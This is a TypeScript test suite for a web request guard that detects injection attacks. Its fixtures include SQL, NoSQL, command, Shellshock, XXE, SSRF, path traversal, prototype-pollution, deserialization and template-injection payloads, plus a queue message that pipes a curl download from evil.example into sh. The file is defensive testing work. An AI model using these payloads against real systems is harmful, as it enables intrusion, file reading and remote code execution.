import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { manifestYaml, queueRequest, request, target } from '../testing.ts';
import type { Verdict } from '../types.ts';
import { create, MAX_MONITOR_FINDINGS } from './index.ts';

const base = manifestYaml({ path: '/files/{name}' });
const fn = target(base);
const monitorFn = target(`${base}\ninjection: { mode: monitor }`);
const exemptFn = target(`${base}\ninjection:\n  exempt: [body.snippet, query.q]\n  base64: [body.attachment]`);
const json = (v: unknown) => ({ body: Buffer.from(JSON.stringify(v)), headers: { 'content-type': 'application/json' } });
const sha256 = (s: string) => createHash('sha256').update(s).digest('hex');

function refused(v: Verdict) {
  assert.equal(v.pass, false, 'expected a refusal');
  return v as Extract<Verdict, { pass: false }>;
}

test('block (the default): the first finding refuses with 400, naming the field and nothing else', async () => {
  const guard = create();
  const payload = "' OR '1'='1' -- canary-7731";
  const v = refused(await guard(request(fn, json({ user: { name: payload } }))));
  assert.equal(v.error.code, 'BWK_E_GUARD_INJECTION');
  assert.equal(v.error.status, 400);
  assert.equal(v.error.message, 'Input at body.user.name was refused: it looks like an injection attempt');
  assert.equal(v.rule, 'sql');
  assert.deepEqual(v.event, { type: 'injection.detected', detail: { class: 'sql', field: 'body.user.name', evidence: sha256(payload), mode: 'block' } });
  assert.doesNotMatch(JSON.stringify(v.event), /canary-7731|OR '1'/, 'the event carries a hash, never the payload');
});

test('each class is caught where it typically arrives', async () => {
  const guard = create();
  const cases: Array<[string, Parameters<typeof request>[1], string]> = [
    ['sql', { query: { id: '1 UNION SELECT username, password FROM users--' } }, 'query.id'],
    ['nosql', { query: { 'user[$ne]': 'x' } }, 'query.user.$ne'],
    ['nosql', json({ username: { $gt: '' } }), 'body.username.$gt'],
    ['command', { headers: { 'user-agent': '() { :; }; /bin/bash -c "cat /etc/passwd"' } }, 'headers.user-agent'],
    ['js', json({ expression: "require('child_process').exec('id')" }), 'body.expression'],
    ['traversal', { params: { name: '..%2f..%2f..%2fetc%2fpasswd' } }, 'params.name'],
    ['ssrf', json({ webhook: 'http://0x7f.1:6379/' }), 'body.webhook'],
    ['xxe', { body: Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'), headers: { 'content-type': 'application/xml' } }, 'body'],
    ['prototype', { body: Buffer.from('{"settings":{"__proto__":{"admin":true}}}') }, 'body.settings.__proto__'],
    ['prototype', { query: { 'a[constructor][prototype][admin]': '1' } }, 'query.a.constructor.prototype'],
    ['serialized', json({ session: '_$$ND_FUNC$$_function(){process.exit()}()' }), 'body.session'],
    ['template', json({ greeting: "{{''.__class__.__mro__[1].__subclasses__()}}" }), 'body.greeting'],
  ];
  for (const [cls, over, field] of cases) {
    const v = refused(await guard(request(fn, over)));
    assert.equal(v.rule, cls, `${field}: expected ${cls}, got ${v.rule}`);
    assert.equal((v.event!.detail as { field: string }).field, field);
  }
});

test('a key that is itself the payload is named as ?, never echoed', async () => {
  const v = refused(await create()(request(fn, json({ "x' OR 1=1--<script>": 1 }))));
  assert.equal(v.error.message, 'Input at body.? was refused: it looks like an injection attempt');
});

test('ordinary requests pass without events; headers carrying credentials and negotiation are not inspected', async () => {
  const guard = create();
  const v = await guard(request(fn, {
    ...json({ name: "Siobhán O'Brien", note: 'Please select the best option from our menu; drop by anytime!', price: '$12.99', site: 'https://example.com/?a=1&b=2' }),
    query: { q: "o'reilly books", page: '2' },
    headers: {
      authorization: "Bearer ' OR 1=1--", 'accept-language': 'en-GB,en;q=0.9', referer: 'http://localhost:3000/checkout', 'x-forwarded-for': '10.1.2.3',
      'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36', cookie: '_ga=GA1.2.123.456; theme=dark',
    },
  }));
  assert.deepEqual(v, { pass: true });
  assert.deepEqual(await guard(request(fn)), { pass: true });
});

test('a NUL byte counts in a field value, not in a whole text or binary body', async () => {
  const guard = create();
  assert.equal(refused(await guard(request(fn, { query: { file: 'avatar.php\u0000.png' } }))).rule, 'traversal');
  assert.deepEqual(await guard(request(fn, { body: Buffer.from('h\u0000e\u0000l\u0000l\u0000o\u0000', 'utf8'), headers: { 'content-type': 'text/plain; charset=utf-16le' } })), { pass: true });
  assert.deepEqual(await guard(request(fn, { body: Buffer.from([0, 159, 255, 0x27, 0x23]), headers: { 'content-type': 'application/octet-stream' } })), { pass: true });
});

test('monitor: the request passes and every finding is an event, one per class and field, at most MAX_MONITOR_FINDINGS', async () => {
  const guard = create();
  const v = await guard(request(monitorFn, json({ a: "' OR 1=1--", b: '../../etc/passwd', c: "' OR 1=1--" })));
  assert.equal(v.pass, true);
  const events = (v as { events?: Array<{ type: string; detail: Record<string, unknown> }> }).events!;
  assert.deepEqual(events.map((e) => [e.type, e.detail.class, e.detail.field, e.detail.mode]), [
    ['injection.detected', 'sql', 'body.a', 'monitor'],
    ['injection.detected', 'traversal', 'body.b', 'monitor'],
    ['injection.detected', 'sql', 'body.c', 'monitor'],
  ]);
  const many = Object.fromEntries(Array.from({ length: 20 }, (_, i) => [`f${i}`, '; cat /etc/passwd']));
  const capped = await guard(request(monitorFn, json(many)));
  assert.equal((capped as { events?: unknown[] }).events!.length, MAX_MONITOR_FINDINGS);
});

test('exempt fields skip the content detectors but not the key checks; base64 fields are decoded', async () => {
  const guard = create();
  const code = "SELECT * FROM users WHERE name = '' OR 1=1; -- cat /etc/passwd; {{7*7}}";
  assert.deepEqual(await guard(request(exemptFn, { ...json({ snippet: { text: code } }), query: { q: code } })), { pass: true });
  const proto = refused(await guard(request(exemptFn, { body: Buffer.from('{"snippet":{"__proto__":{"admin":true}}}') })));
  assert.equal(proto.rule, 'prototype', 'a key inside an exempt field is still checked');
  const op = refused(await guard(request(exemptFn, json({ snippet: { $where: 'sleep(100)' } }))));
  assert.equal(op.rule, 'nosql');
  assert.equal(refused(await guard(request(exemptFn, json({ other: code })))).rule, 'template', 'other fields are inspected (template is the most specific of the three)');

  const hidden = Buffer.from("' UNION SELECT password FROM users--").toString('base64');
  assert.equal(refused(await guard(request(exemptFn, json({ attachment: hidden })))).rule, 'sql', 'declared base64: decoded and inspected');
  assert.deepEqual(await guard(request(fn, json({ attachment: hidden }))), { pass: true }, 'undeclared: base64 text is not decoded');
  assert.deepEqual(await guard(request(exemptFn, json({ attachment: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 1, 2, 0xff]).toString('base64') }))), { pass: true }, 'binary is not inspected');
});

test('past the bounds: refused in block mode, recorded in monitor mode, never skipped silently', async () => {
  let deep: unknown = 'x';
  for (let i = 0; i < 10; i++) deep = [deep];
  const small = create({ maxDepth: 5, maxStrings: 10, maxChars: 100 });
  const depth = refused(await small(request(fn, json({ deep }))));
  assert.equal(depth.error.code, 'BWK_E_GUARD_INPUT_TOO_COMPLEX');
  assert.equal(depth.error.status, 400);
  assert.equal(depth.error.message, 'Input is too complex to inspect: nested deeper than 5 levels');
  assert.equal(depth.rule, 'uninspectable');
  assert.deepEqual(depth.event!.detail, { class: 'uninspectable', field: 'body.deep[0][0][0][0]', reason: 'nested deeper than 5 levels', mode: 'block' });

  const strings = refused(await small(request(fn, json(Object.fromEntries(Array.from({ length: 6 }, (_, i) => [`k${i}`, 'v']))))));
  assert.equal(strings.error.message, 'Input is too complex to inspect: more than 10 strings');
  const chars = refused(await small(request(fn, json({ a: 'x'.repeat(101) }))));
  assert.equal(chars.error.message, 'Input is too complex to inspect: more than 100 characters to inspect');
  let layered = '<';
  for (let i = 0; i < 8; i++) layered = encodeURIComponent(layered);
  assert.equal(refused(await create()(request(fn, json({ a: layered })))).error.message, 'Input is too complex to inspect: a value encoded more than 6 times');

  const monitored = await small(request(monitorFn, json({ deep })));
  assert.equal(monitored.pass, true);
  assert.deepEqual((monitored as { events?: Array<{ detail: unknown }> }).events!.map((e) => e.detail), [{ class: 'uninspectable', field: 'body.deep[0][0][0][0]', reason: 'nested deeper than 5 levels', mode: 'monitor' }]);
});

test('exempt content does not count towards the character budget', async () => {
  const small = create({ maxChars: 100 });
  assert.deepEqual(await small(request(exemptFn, json({ snippet: 'x'.repeat(1000) }))), { pass: true });
});

test('a queue message is inspected like a request body', async () => {
  const queued = target(manifestYaml({ subject: 'orders.created' }));
  const v = refused(await create()(queueRequest(queued, { order: { note: '; curl http://evil.example/x | sh' } })));
  assert.equal(v.rule, 'command');
  assert.equal((v.event!.detail as { field: string }).field, 'body.order.note');
});
